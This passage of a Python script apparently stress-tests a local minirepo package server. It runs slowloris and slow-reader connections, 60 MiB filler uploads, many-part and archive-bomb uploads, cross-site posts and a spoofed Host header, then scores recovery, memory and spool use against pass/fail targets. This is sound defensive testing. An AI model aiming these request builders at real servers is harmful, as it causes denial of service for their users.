    by_fd: dict[int, Reader],
) -> None:
    reader.reopen_at = time.monotonic() + READER_REOPEN_AFTER
    try:
        sock = attack.sockets.connect(source, rcvbuf=READER_RCVBUF)
    except OSError as exc:
        tally.note(f"connect failed ({why(exc)})")
        return
    try:
        sock.sendall(request)
    except OSError as exc:
        attack.sockets.close(sock)
        tally.note(f"{why(exc)} while sending")
        return
    sock.setblocking(False)
    reader.sock, reader.status = sock, ""
    poller.register(sock, select.POLLRDHUP)  # POLLHUP and POLLERR are always reported
    by_fd[sock.fileno()] = reader


def peek_status(sock: socket.socket) -> str:
    try:
        data = sock.recv(16, socket.MSG_PEEK)
    except OSError:  # nothing yet (EAGAIN), or gone: the poll says which
        return ""
    status = status_of(data)
    return str(status) if status else ""


# --- the attack plan --------------------------------------------------------------------

Build = Callable[[], Request]
Judge = Callable[[Answer], str]


def always(request: Request) -> Build:
    return lambda: request


def upload_head(name: str) -> list[Part]:
    return [
        (":action", None, b"file_upload"),
        ("protocol_version", None, b"1"),
        ("name", None, name.encode()),
        ("version", None, b"1.0"),
    ]


def fill_request(port: int) -> Request:
    """An anonymous upload whose Content-Length is exactly 60 MiB (random bytes)."""
    filename = Dist("filler", "1.0").wheel_name
    overhead = sum(map(len, post(port, [*upload_head("filler"), ("content", filename, b"")]).body))
    content = os.urandom(FILL_SIZE - overhead)
    return post(port, [*upload_head("filler"), ("content", filename, content)])


def request_loops(
    port: int, token: str, bombs: tuple[Path, Path]
) -> dict[str, tuple[Build, Judge]]:
    """What each request-loop attack (c to h) sends, built once before the clock starts."""
    with_token = {"Authorization": basic_header("__token__", token)}
    block = b"x" * TEXT_FIELD_SIZE  # one object, referenced by all 16 fields
    text = [(f"comment_{number}", None, block) for number in range(TEXT_FIELDS)]
    tiny = [("content", f"part{number}.whl", b"x") for number in range(FILE_PARTS)]
    fixed = {
        "c": fill_request(port),
        "d": post(port, [*upload_head("text-fields"), *text], with_token),
        "e": post(port, [*upload_head("many-parts"), *tiny], with_token),
        **{
            f"f {kind}": post(port, twine_parts(path.name, path.read_bytes()), with_token)
            for kind, path in zip(("wheel", "sdist"), bombs, strict=True)
        },
        "h": Request(f"GET /simple HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()),
    }
    cross_site = {
        "Authorization": basic_header(USER, PASSWORD),
        "Origin": f"http://{EVIL}",
        "Sec-Fetch-Site": "cross-site",
    }
    versions = itertools.count(1)

    def cross_site_post() -> Request:
        # A new version each time: an accepted post would publish a file, not find it there.
        dist = Dist(CROSS_SITE, f"1.0.{next(versions)}")
        return post(port, twine_parts(dist.wheel_name, wheel_bytes(dist)), cross_site)

    loops: dict[str, tuple[Build, Judge]] = {
        key: (always(request), host_judge if key == "h" else plain)
        for key, request in fixed.items()
    }
    loops["g"] = (cross_site_post, plain)
    return loops


def start_attacks(
    attack: Attack, loops: Mapping[str, tuple[Build, Judge]], public_path: str, skip: set[str]
) -> tuple[dict[str, Tally], list[threading.Thread]]:
    """One thread per worker; `skip` holds the letters of the attacks left out."""
    tallies = {key: Tally() for key in TITLES if key[0] not in skip}
    jobs: list[Callable[[], None]] = []
    for source in ATTACKERS:
        if "a" in tallies:
            jobs.append(functools.partial(slowloris, attack, source, tallies["a"]))
        if "b" in tallies:
            readers = SLOW_READERS // len(ATTACKERS)
            jobs.append(
                functools.partial(slow_reader, attack, source, tallies["b"], readers, public_path)
            )
    # Workers take the addresses in turn across attacks, so one-worker attacks alternate.
    sources = itertools.cycle(ATTACKERS)
    for key, (build, judge) in loops.items():
        for _ in range(WORKERS[key] if key in tallies else 0):
            tally = tallies[key]
            jobs.append(functools.partial(request_loop, attack, next(sources), tally, build, judge))
    threads = [threading.Thread(target=job, daemon=True) for job in jobs]
    for thread in threads:
        thread.start()
    return tallies, threads


# --- the phases -------------------------------------------------------------------------


def live(port: int, legit: Legit, journal: Journal, phase: str, until: float) -> None:
    """The daily life until `until`; the operation running then is let finish (bounded)."""
    threads = [
        threading.Thread(target=legit.loop, args=(phase, until), name="legit", daemon=True),
        threading.Thread(
            target=health_loop, args=(port, journal, phase, until), name="health", daemon=True
        ),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, until - time.monotonic()) + 2 * CLIENT_TIMEOUT + JOIN_TIMEOUT)


def recovery(server: Server, journal: Journal, threshold: float, cut_at: float) -> float | None:
    """Seconds from the cut to the first of RECOVERY_RUN probes in a row within
    `threshold`, or None if that did not happen within RECOVERY_LIMIT (or the server died)."""
    run, first = 0, cut_at
    for _ in paced(cut_at + RECOVERY_LIMIT):
        if server.proc.poll() is not None:
            return None
        start = time.monotonic()
        ok, seconds, detail = health_probe(server.port)
        journal.add(Op("health", "recovery", ok, seconds, detail))
        if not (ok and seconds <= threshold):
            run = 0
            continue
        first = start if run == 0 else first
        run += 1
        if run == RECOVERY_RUN:
            return first - cut_at
    return None


def attack_phase(
    server: Server,
    legit: Legit,
    journal: Journal,
    monitor: Monitor,
    plan: tuple[Mapping[str, tuple[Build, Judge]], str, set[str]],
    seconds: float,
    threshold: float,
) -> tuple[dict[str, Tally], float | None]:
    """The attacks and the daily life together; then the cut, and the recovery measured
    while the threads wind down."""
    monitor.phase = "attack"
    attack = Attack(Sockets(server.port), time.monotonic() + seconds)
    tallies, attackers = start_attacks(attack, *plan)
    life = threading.Thread(
        target=live,
        args=(server.port, legit, journal, "attack", attack.deadline),
        name="life",
        daemon=True,
    )
    life.start()
    try:
        attack.stop.wait(seconds)
    finally:
        attack.stop.set()
        attack.sockets.cut_all()
    cut_at = time.monotonic()
    monitor.phase = "recovery"
    back = recovery(server, journal, threshold, cut_at)
    for thread in attackers:
        thread.join(max(0.1, cut_at + JOIN_TIMEOUT - time.monotonic()))
    life.join(2 * CLIENT_TIMEOUT + JOIN_TIMEOUT)
    return tallies, back


def spool_after_drain(server: Server) -> int:
    """The spool bytes once the requests the server still holds from the attack are done
    (it is back to zero), or after SPOOL_DRAIN seconds: then the probe counts from there."""
    spool = 0
    for _ in range(math.ceil(SPOOL_DRAIN / SAMPLE_EVERY)):
        _, spool = fds_and_spool(server.proc.pid, server.spool_dirs)
        if spool == 0:
            break
        time.sleep(SAMPLE_EVERY)
    return spool


def refused_post(server: Server, fill: Request) -> tuple[int, str]:
    """The spool one anonymous 60 MiB POST costs with nothing else running, sampled every
    10 ms; and the answer it got."""
    try:
        before = spool_after_drain(server)
    except FileNotFoundError:
        return 0, "not sent: the server is gone"
    attack = Attack(Sockets(server.port), time.monotonic() + ANSWER_TIMEOUT)
    with Monitor(server, PROBE_SAMPLE_EVERY, ANSWER_TIMEOUT + JOIN_TIMEOUT, "refused") as fast:
        outcome = exchange(attack, ATTACKERS[0], fill)
    peak = fast.peaks.get("refused", {}).get("spool_bytes", 0.0)
    return max(0, int(peak) - before), plain(outcome) if isinstance(outcome, Answer) else outcome


def stored_cross_site(server: Server) -> int | None:
    """The cross-site uploads the server stored, from its audit log: one whose answer was
    lost (a server dying before it answered) is still counted."""
    try:
        lines = server.cli("audit", "--json", "--limit", "10000000").splitlines()
    except (RuntimeError, subprocess.TimeoutExpired):
        return None
    entries: list[dict[str, str]] = [json.loads(line) for line in lines]
    return sum(e["action"] == "upload" and e["project"] == CROSS_SITE for e in entries)


@dataclasses.dataclass(frozen=True)
class Outcome:
    journal: Journal
    peaks: dict[str, dict[str, float]]
    tallies: dict[str, Tally]
    back: float | None  # seconds back to quiet
    threshold: float  # a probe "as quiet" answers within this
    refused: tuple[int, str]  # spool bytes and answer of the refused POST alone
    cross_site_stored: int | None  # None: the audit log could not be read
    server_exit: int | None
    server_log: str  # its tail, kept when the server died: the temp folder goes


def run(args: argparse.Namespace, folder: Path, python: str, pin: bool) -> Outcome:
    journal = Journal()
    bombs = cached_bombs(args.cache)
    total = args.quiet_seconds + args.seconds + 4 * CLIENT_TIMEOUT + RECOVERY_LIMIT
    total += SPOOL_DRAIN + ANSWER_TIMEOUT
    with contextlib.ExitStack() as stack:
        server = start_server(folder, python, args.source, dict(args.server_setting), pin)
        stack.callback(server.stop)
        print(f"minirepo serving {server.base} (pid {server.proc.pid}); setting up", flush=True)
        try:
            token, public_path = set_up(server, folder)
        except (RuntimeError, requests.RequestException) as exc:
            raise RuntimeError(f"{exc}\nThe server's log ends with:\n{server.log_tail()}") from exc
        loops = request_loops(server.port, token, bombs)
        work = folder / "client"
        work.mkdir()
        legit = Legit(server.base, token, work, journal)
        stack.callback(legit.kill_all)
        monitor = stack.enter_context(Monitor(server, SAMPLE_EVERY, total, "quiet"))
        print(f"quiet for {args.quiet_seconds:g} s", flush=True)
        live(server.port, legit, journal, "quiet", time.monotonic() + args.quiet_seconds)
        quiet_p99 = summary(journal.of("health", "quiet"))["p99"] or 0.0
        threshold = max(RECOVERY_FACTOR * quiet_p99, quiet_p99 + RECOVERY_SLACK)
        print(f"attack for {args.seconds:g} s, then recovery", flush=True)
        tallies, back = attack_phase(
            server,
            legit,
            journal,
            monitor,
            (loops, public_path, set(args.skip)),
            args.seconds,
            threshold,
        )
        print("the refused POST alone", flush=True)
        monitor.phase = "drain+refused"
        refused = refused_post(server, loops["c"][0]())
        stored = stored_cross_site(server)
        died = server.proc.poll()
        tail = server.log_tail() if died is not None else ""
        outcome = Outcome(
            journal, monitor.peaks, tallies, back, threshold, refused, stored, died, tail
        )
    return outcome


# --- the report -------------------------------------------------------------------------


def quantile(values: list[float], share: float) -> float | None:
    """Nearest rank: the smallest value that `share` of them do not exceed."""
    if not values:
        return None
    ordered = sorted(values)
    return ordered[max(0, math.ceil(share * len(ordered)) - 1)]


def summary(ops: list[Op]) -> dict[str, Any]:
    """Counts and percentiles; a failure counts as its timeout, not as a fast answer."""
    seconds = [op.seconds if op.ok else max(op.seconds, timeout(op.kind)) for op in ops]
    return {
        "count": len(ops),
        "ok": sum(op.ok for op in ops),
        "p50": quantile(seconds, 0.5),
        "p99": quantile(seconds, 0.99),
    }


def timeout(kind: str) -> float:
    return HEALTH_TIMEOUT if kind == "health" else CLIENT_TIMEOUT


def fmt_seconds(value: float | None) -> str:
    if value is None:
        return "-"
    return f"{value * 1000:.0f} ms" if value < 1 else f"{value:.2f} s"


def fmt_bytes(value: float) -> str:
    for unit, size in (("GiB", 1024**3), ("MiB", MIB), ("KiB", 1024)):
        if value >= size:
            return f"{value / size:.1f} {unit}"
    return f"{value:.0f} B"


@dataclasses.dataclass(frozen=True)
class Check:
    target: str
    figure: str
    passed: bool


def peak(outcome: Outcome, figure: str) -> float:
    return max((peaks[figure] for peaks in outcome.peaks.values()), default=0.0)


def checks(outcome: Outcome, spool_limit: int) -> list[Check]:
    judged = [op for op in outcome.journal.ops if op.phase in ("quiet", "attack")]
    failed = sum(not op.ok for op in judged)
    health = quantile([op.seconds for op in outcome.journal.of("health", "attack")], 0.99)
    rss, spool = peak(outcome, "rss_mib"), peak(outcome, "spool_bytes")
    refused_bytes, refused_answer = outcome.refused
    back = outcome.back
    verdicts = [
        Check(
            "every legitimate operation succeeds (quiet and attack)",
            f"{failed} failed of {len(judged)}",
            failed == 0,
        ),
        Check(
            f"health p99 during the attack <= {fmt_seconds(TARGET_HEALTH_P99)}",
            fmt_seconds(health),
            health is not None and health <= TARGET_HEALTH_P99,
        ),
        Check(f"peak RSS <= {TARGET_RSS_MIB:.0f} MiB", f"{rss:.1f} MiB", rss <= TARGET_RSS_MIB),
        Check(
            f"back to quiet within {fmt_seconds(TARGET_RECOVERY)}",
            fmt_seconds(back) if back is not None else f"not within {RECOVERY_LIMIT:.0f} s",
            back is not None and back <= TARGET_RECOVERY,
        ),
        Check(
            f"a refused POST spools <= {fmt_bytes(TARGET_REFUSED_SPOOL)}",
            f"{fmt_bytes(refused_bytes)} (answer: {refused_answer})",
            refused_answer.startswith("4") and refused_bytes <= TARGET_REFUSED_SPOOL,
        ),
        Check(
            f"peak spool <= the spool limit ({fmt_bytes(spool_limit)})",
            fmt_bytes(spool),
            spool <= spool_limit,
        ),
    ]
    if "g" in outcome.tallies:
        tally = outcome.tallies["g"]
        answered = sum(n for answer, n in tally.answers.items() if answer.startswith("2"))
        stored = outcome.cross_site_stored
        figure = f"{answered} answered 2xx, {'?' if stored is None else stored} stored"
        passed = answered == 0 and stored == 0
        verdicts.append(
            Check("no cross-site post accepted", f"{figure}, of {tally.attempts}", passed)
        )
    if "h" in outcome.tallies:
        tally = outcome.tallies["h"]
        absolute = sum(n for answer, n in tally.answers.items() if "ABSOLUTE" in answer)
        target = f"no absolute Location for Host: {EVIL}"
        verdicts.append(Check(target, f"{absolute} of {tally.attempts}", absolute == 0))
    return verdicts


def render(outcome: Outcome, verdicts: list[Check]) -> str:
    lines = [f"{'legitimate client (127.0.0.1)':30}{'quiet':>30}{'attack':>30}"]
    lines.append(f"{'':30}" + f"{'n':>6}{'ok':>6}{'p50':>9}{'p99':>9}" * 2)
    for kind in LEGIT_KINDS:
        row = f"{kind:30}"
        for phase in ("quiet", "attack"):
            done = summary(outcome.journal.of(kind, phase))
            row += f"{done['count']:>6}{done['ok']:>6}"
            row += f"{fmt_seconds(done['p50']):>9}{fmt_seconds(done['p99']):>9}"
        lines.append(row)
    failures = collections.Counter(
        f"{op.kind} ({op.phase}): {op.detail}"
        for op in outcome.journal.ops
        if not op.ok and op.phase != "recovery"
    )
    lines += [f"  failed {n} x {what}" for what, n in failures.most_common(12)]
    phases = list(outcome.peaks)
    lines += ["", f"{'server, peaks':30}" + "".join(f"{phase:>15}" for phase in phases)]
    for label, figure, show in (
        ("RSS", "rss_mib", lambda value: f"{value:.1f} MiB"),
        ("spool bytes", "spool_bytes", fmt_bytes),
        ("open fds", "fds", lambda value: f"{value:.0f}"),
    ):
        cells = "".join(f"{show(outcome.peaks[phase][figure]):>15}" for phase in phases)
        lines.append(f"{label:30}{cells}")
    if outcome.server_exit is not None:
        lines.append(f"THE SERVER EXITED during the run (status {outcome.server_exit}); its log:")
        lines += ["  | " + line for line in outcome.server_log.splitlines()]
    back = fmt_seconds(outcome.back)
    back = back if outcome.back is not None else f"not within {RECOVERY_LIMIT:.0f} s"
    lines += [
        "",
        f"back to quiet: {back} after the attack's end (the first of {RECOVERY_RUN} health "
        f"probes in a row within {fmt_seconds(outcome.threshold)})",
        f"refused POST alone: {fmt_bytes(outcome.refused[0])} spooled, answer {outcome.refused[1]}",
        "",
        f"{'attacks from ' + ' and '.join(ATTACKERS):42}{'attempts':>9}  answers",
    ]
    for key, tally in outcome.tallies.items():
        answers = ", ".join(f"{answer}: {n}" for answer, n in tally.answers.most_common())
        lines.append(f"{key + '. ' + TITLES[key]:42}{tally.attempts:>9}  {answers or '-'}")
    lines += ["", "targets"]
    lines += [
        f"  {'PASS' if check.passed else 'FAIL'}  {check.target:56} {check.figure}"
        for check in verdicts
    ]
    return "\n".join(lines)


def as_json(
    args: argparse.Namespace, outcome: Outcome, verdicts: list[Check], spool_limit: int
) -> dict[str, Any]:
    journal = outcome.journal
    return {
        "args": {key: str(value) for key, value in vars(args).items()},
        "legit": {
            kind: {phase: summary(journal.of(kind, phase)) for phase in ("quiet", "attack")}
            for kind in LEGIT_KINDS
        },
        "server_peaks": outcome.peaks,
        "server_exit": outcome.server_exit,
        "server_log": outcome.server_log,
        "recovery": {"seconds": outcome.back, "threshold_seconds": outcome.threshold},
        "refused_post": {"spool_bytes": outcome.refused[0], "answer": outcome.refused[1]},
        "cross_site_stored": outcome.cross_site_stored,
        "spool_limit": spool_limit,
        "attacks": {
            key: {"title": TITLES[key], "attempts": tally.attempts, "answers": dict(tally.answers)}
            for key, tally in outcome.tallies.items()
        },
        "targets": [dataclasses.asdict(check) for check in verdicts],
        "operations": [dataclasses.asdict(op) for op in journal.ops],
    }


# --- the command ------------------------------------------------------------------------


def positive(text: str) -> float:
    value = float(text)
    if not 0 < value <= 3600:
        raise argparse.ArgumentTypeError(f"{text} is not between 0 and 3600 seconds")
    return value


def setting(text: str) -> tuple[str, str]:
    key, sep, value = text.partition("=")
    if not sep or not key.strip():
        raise argparse.ArgumentTypeError(f"{text!r} is not KEY=VALUE")
    return config.ENV_PREFIX + key.strip().upper(), value


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--quiet-seconds", type=positive, default=20.0)
    parser.add_argument("--seconds", type=positive, default=60.0, help="the attack's length")
    parser.add_argument("--json", type=Path, help="also write the results here")
    parser.add_argument(
        "--server-setting",
        type=setting,
        action="append",
        default=[],
        metavar="KEY=VALUE",
        help="a minirepo setting, given to the server as MINIREPO_KEY (repeatable)",
    )
    parser.add_argument(
        "--python",
        choices=("runtime", "current"),
        default="runtime",
        help="the server's interpreter: the cached venv of minirepo's runtime dependencies "
        "(as on a server: no psycopg) or this one; the code is this checkout's either way",
    )
    parser.add_argument(
        "--source",
        type=Path,
        default=CHECKOUT,
        help="the checkout whose minirepo runs (default: this one), e.g. an older commit's "
        "tree from `git archive`, to see the attacks against it",
    )
    parser.add_argument(
        "--skip",
        choices=sorted({key[0] for key in TITLES}),
        action="append",
        default=[],
        help="leave this attack out (repeatable), to see what another one does alone",
    )
    parser.add_argument("--no-pin", action="store_true", help="leave server and clients unpinned")
    parser.add_argument("--cache", type=Path, default=cache_dir(), help="where the bombs are kept")
    return parser.parse_args(argv)


def main(argv: list[str] | None = None) -> int:
    """Exit status 1 when a target fails, so that a script can gate on the run."""
    args = parse_args(argv)
    try:
        effective = config.load(None, dict(args.server_setting))
    except UserError as exc:
        raise SystemExit(f"--server-setting: {exc}") from exc
    # A SIGTERM must run the cleanup too: sockets, clients, server, temp folder.
    signal.signal(signal.SIGTERM, lambda signum, frame: sys.exit(128 + signum))
    pin = not args.no_pin and {0, 1} <= os.sched_getaffinity(0)
    if pin:
        os.sched_setaffinity(0, {1})  # this thread: every later thread and child inherits it
    python = str(minirepo_venv() / "bin/python") if args.python == "runtime" else sys.executable
    with tempfile.TemporaryDirectory(prefix="minirepo-attack-", ignore_cleanup_errors=True) as tmp:
        outcome = run(args, Path(tmp), python, pin)
    verdicts = checks(outcome, effective.spool_limit)
    print()
    print(render(outcome, verdicts))
    if args.json:
        args.json.write_text(
            json.dumps(as_json(args, outcome, verdicts, effective.spool_limit), indent=2)
        )
        print(f"\nwritten to {args.json}")
    return 0 if all(check.passed for check in verdicts) else 1


if __name__ == "__main__":
    sys.exit(main())
